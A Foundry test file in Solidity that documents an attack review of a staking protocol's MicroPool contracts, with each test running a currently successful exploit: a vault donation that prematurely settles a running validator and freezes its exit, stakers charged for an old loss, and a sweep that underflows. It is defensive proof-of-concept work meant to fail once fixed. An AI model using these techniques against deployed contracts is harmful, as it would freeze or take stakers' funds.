// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {stdError} from "forge-std/StdError.sol";
import {IParameters} from "../../src/interfaces/IParameters.sol";
import {IMicroPool} from "../../src/interfaces/IMicroPool.sol";
import {Protocol} from "../utils/Protocol.sol";
import {DepositData} from "../utils/DepositData.sol";

/// Findings of the issue-14 attack review: each test performs an attack that SUCCEEDS against the contracts
/// as they stand and asserts the damage with exact balances. A fix should make each of them fail.
contract MicroPoolFindingsTest is Protocol {
    address internal provider;
    address internal alice;
    address internal bob;
    address internal carol;
    address internal attacker = makeAddr("attacker");

    function setUp() public {
        deployProtocol();
        provider = qualifiedProvider("provider", IParameters.TrustLevel.SemiTrusted); // k = 8 ETH
        alice = staker("alice");
        bob = staker("bob");
        carol = staker("carol");
        vm.deal(attacker, 100 ether);
    }

    /// 8 ETH from the provider and 4 + 8 + 12 ETH from three stakers.
    function filledPool() internal returns (uint256 poolId) {
        poolId = openPool(provider, 8 ether);
        stakeIn(poolId, alice, 4 ether);
        stakeIn(poolId, bob, 8 ether);
        stakeIn(poolId, carol, 12 ether);
    }

    /// A failed pool returns 12 of its stakers' 24 ETH with an empty insurance pool: 12 ETH of uncovered
    /// loss over 24 aETH (every aETH redeems for 0.5 ETH).
    function openLoss() internal returns (uint256 poolId) {
        poolId = filledPool();
        activate(poolId);
        vm.prank(governance);
        pools.reportFailure(poolId, 0);
        vm.deal(pools.vaultOf(poolId), 12 ether);
        vm.prank(makeAddr("anyone"));
        pools.settle(poolId);
        (uint256 reserve, uint256 loss,,) = pools.redemptionBooks();
        assertEq(reserve, 12 ether);
        assertEq(loss, 12 ether);
        assertEq(aeth.totalSupply(), 24 ether);
    }

    // ------------------------------------------------------------ F1: premature settlement freezes the exit

    /// After a pool's end time anyone sends 8 ETH to its vault (a plain transfer: the vault accepts ETH
    /// from anyone, deployed or not) and settles it while its validator is still running. The pool is
    /// Completed for good, so:
    /// - nobody can ever force the validator's exit any more (`requestExit` needs an Active pool), nor can
    ///   governance report a failure (and slash ANKR) — the 32 ETH at the beacon chain come back only if
    ///   the provider chooses to exit;
    /// - the provider's commitment is released: it withdraws its whole 100 000 ANKR collateral at once;
    /// - the 8 ETH "exit" is settled as a 24 ETH loss: 8 ETH k, 16 ETH uncovered (insurance empty), so
    ///   every aETH redeems at 1/3 until the validator exits. Alice, redeeming meanwhile, gets
    ///   1.333… ETH for 4 aETH; when the validator does come back, the 2.666… ETH she was charged goes to
    ///   the insurance pool, not to her.
    function test_Finding_DonationAfterEnd_SettlesARunningValidator_AndFreezesItsExit() public {
        uint256 poolId = filledPool();
        activate(poolId);
        uint256 end = pools.getPool(poolId).endTime;
        vm.warp(end);

        address vault = pools.vaultOf(poolId);
        vm.startPrank(attacker);
        (bool sent,) = vault.call{value: 8 ether}("");
        assertTrue(sent);
        pools.settle(poolId);
        vm.stopPrank();

        IMicroPool.Pool memory p = pools.getPool(poolId);
        assertEq(
            uint8(p.status), uint8(IMicroPool.Status.Completed), "settled with its validator still running"
        );
        assertEq(p.returned, 8 ether);
        assertEq(p.providerShortfall, 8 ether);
        assertEq(p.uncoveredLoss, 16 ether);
        (uint256 reserve, uint256 loss,,) = pools.redemptionBooks();
        assertEq(reserve, 8 ether);
        assertEq(loss, 16 ether);

        // Nobody can force the exit any more: not the provider, not anyone after the grace period.
        bytes memory pubkey = DepositData.pubkey(poolId);
        vm.deal(provider, 1 ether);
        vm.expectRevert(
            abi.encodeWithSelector(IMicroPool.PoolWrongStatus.selector, poolId, IMicroPool.Status.Completed)
        );
        vm.prank(provider);
        pools.requestExit{value: 1}(poolId, pubkey);
        vm.warp(end + pools.EXIT_GRACE());
        vm.expectRevert(
            abi.encodeWithSelector(IMicroPool.PoolWrongStatus.selector, poolId, IMicroPool.Status.Completed)
        );
        vm.prank(attacker);
        pools.requestExit{value: 1}(poolId, pubkey);
        // Nor can governance report the provider's failure and slash it.
        vm.expectRevert(
            abi.encodeWithSelector(IMicroPool.PoolWrongStatus.selector, poolId, IMicroPool.Status.Completed)
        );
        vm.prank(governance);
        pools.reportFailure(poolId, 50_000 ether);

        // The provider walks away with its whole collateral while the validator runs.
        assertEq(registry.getProvider(provider).activeCommitments, 0);
        uint256 ankrBefore = ankr.balanceOf(provider);
        vm.prank(provider);
        registry.withdrawCollateral(uint128(PMIN));
        assertEq(ankr.balanceOf(provider) - ankrBefore, PMIN, "100 000 ANKR collateral released");

        // aETH redeems at a third meanwhile: Alice's 4 aETH pay 4 - ceil(4 x 16 / 24) ETH.
        assertEq(redeemAll(alice), 1_333_333_333_333_333_333);

        // Should the provider ever exit voluntarily, the 32 ETH repair the books, but Alice's charge goes to
        // the insurance pool: 2.666… ETH of hers plus 0.8 ETH of the rewards' insurance cut.
        vm.deal(vault, 32 ether);
        vm.prank(attacker);
        pools.settle(poolId);
        assertEq(address(insurance).balance, 2_666_666_666_666_666_667 + 0.8 ether);
        (, loss,,) = pools.redemptionBooks();
        assertEq(loss, 0);
        assertEq(redeemAll(bob), 8 ether, "holders who waited are whole again");
        assertEq(
            alice.balance, 1_000 ether - 4 ether + 1_333_333_333_333_333_333, "Alice lost 2.67 ETH for good"
        );
    }

    /// The same without any attacker: with a pool duration governance may set (up to 3 650 days), the
    /// validator's own reward skims pile up in the vault (nothing sweeps them while the pool is Active) and
    /// pass `EXIT_THRESHOLD` (~0.96 ETH a year on 32 ETH at 3 % reach 8 ETH after ~8.3 years). At the end
    /// time anyone settles the pool from 9.6 ETH of skims before the provider's exit request, and the
    /// exit can then never be requested at all.
    function test_Finding_AccumulatedSkims_LookLikeAnExit_AndFreezeIt() public {
        vm.prank(governance);
        params.set(IParameters.Key.MaxPoolDuration, 3_650 days);
        vm.prank(provider);
        uint256 poolId = pools.openPool{value: 8 ether}(uint40(block.timestamp + 3_650 days));
        stakeIn(poolId, alice, 4 ether);
        stakeIn(poolId, bob, 8 ether);
        stakeIn(poolId, carol, 12 ether);
        activate(poolId);

        uint256 end = pools.getPool(poolId).endTime;
        vm.warp(end);
        vm.deal(pools.vaultOf(poolId), 9.6 ether); // ten years of skims, the validator still running
        vm.prank(attacker);
        pools.settle(poolId);
        assertEq(uint8(pools.getPool(poolId).status), uint8(IMicroPool.Status.Completed));
        (uint256 reserve, uint256 loss,,) = pools.redemptionBooks();
        assertEq(reserve, 9.6 ether);
        assertEq(loss, 14.4 ether, "24 - 9.6: a running validator settled as a 60 % loss");

        vm.expectRevert(
            abi.encodeWithSelector(IMicroPool.PoolWrongStatus.selector, poolId, IMicroPool.Status.Completed)
        );
        vm.prank(provider);
        pools.requestExit{value: 1}(poolId, DepositData.pubkey(poolId));
    }

    // ------------------------------------------------------------ F2: newcomers pay an old loss

    /// While an uncovered loss is open, `stake` still mints aETH 1:1, so every aETH minted afterwards
    /// takes a share of a loss its ETH never risked. Dave stakes 24 ETH in a fresh pool whose validator
    /// returns every wei; the old holders redeem first at 0.75 instead of 0.5 and Dave gets 18 ETH for 24.
    function test_Finding_StakeAfterLoss_NewcomerPaysTheOldLoss() public {
        openLoss();
        address other = qualifiedProvider("other", IParameters.TrustLevel.SemiTrusted);
        address dave = staker("dave");
        uint256 healthy = openPool(other, 8 ether);
        stakeIn(healthy, dave, 24 ether);
        assertEq(pools.previewRedeem(24 ether), 18 ether, "Dave's fresh 24 aETH are worth 18 ETH at once");
        activate(healthy);
        returnAndSettle(healthy, 32 ether); // not a wei lost

        assertEq(redeemAll(alice), 3 ether, "2 ETH without Dave");
        assertEq(redeemAll(bob), 6 ether, "4 ETH without Dave");
        assertEq(redeemAll(carol), 9 ether, "6 ETH without Dave");
        assertEq(redeemAll(dave), 18 ether, "24 ETH staked in a pool that lost nothing");
        assertEq(dave.balance, 1_000 ether - 6 ether, "Dave paid 6 ETH of the old pool's loss");
        (uint256 reserve, uint256 loss,,) = pools.redemptionBooks();
        assertEq(reserve, 0);
        assertEq(loss, 0);
    }

    /// Worse, the charge is immediate: staking into a pending pool and unstaking in the same block, the ETH
    /// never having left the contract, costs a quarter of it; the 6 ETH go to the reserve of the old holders.
    function test_Finding_StakeThenUnstake_LosesAQuarterInstantly() public {
        openLoss();
        address other = qualifiedProvider("other", IParameters.TrustLevel.SemiTrusted);
        address dave = staker("dave");
        uint256 pending = openPool(other, 8 ether);
        stakeIn(pending, dave, 24 ether);
        vm.prank(dave);
        pools.unstake(pending, 24 ether);
        assertEq(dave.balance, 1_000 ether - 6 ether, "6 of 24 ETH gone without any validator");
        assertEq(ankr.balanceOf(dave), 1_000_000 ether, "the ANKR fee came back, the ETH did not");
        (uint256 reserve, uint256 loss,,) = pools.redemptionBooks();
        assertEq(reserve, 18 ether, "12 + Dave's 6");
        assertEq(loss, 6 ether);
        assertEq(redeemAll(alice) + redeemAll(bob) + redeemAll(carol), 18 ether, "12 ETH without Dave");
    }

    // ------------------------------------------------------------ F3: a late sweep that underflows

    /// With `ProfitInsuranceBps` at 0 (inside its bounds) the "at most 2 wei the floors of a later sweep can
    /// overshoot" have no insurance cut to come out of: a late sweep whose floors overshoot by 1 wei
    /// reverts. Here the provider holds 8.5 ETH (staker principal 23.5 ETH), the settlement leaves an odd
    /// rewardPerEth, and a late 0.1 ETH + 35 wei in the vault cannot be swept until someone changes the
    /// amount (one more wei makes it sweepable).
    function test_Finding_LateSweep_RevertsWithoutAnInsuranceCut() public {
        vm.prank(governance);
        params.set(IParameters.Key.ProfitInsuranceBps, 0);
        uint256 poolId = openPool(provider, 8.5 ether);
        stakeIn(poolId, alice, 4 ether);
        stakeIn(poolId, bob, 8 ether);
        stakeIn(poolId, carol, 11.5 ether);
        activate(poolId);
        returnAndSettle(poolId, 33 ether + 35);
        assertEq(pools.getPool(poolId).rewardPerEth, 28_125_000_000_000_001);

        address vault = pools.vaultOf(poolId);
        vm.deal(vault, 0.1 ether + 35);
        vm.expectRevert(stdError.arithmeticError);
        vm.prank(attacker);
        pools.settle(poolId);
        assertEq(vault.balance, 0.1 ether + 35, "stuck in the vault");

        vm.deal(vault, 0.1 ether + 36);
        vm.prank(attacker);
        pools.settle(poolId);
        assertEq(vault.balance, 0);
    }
}
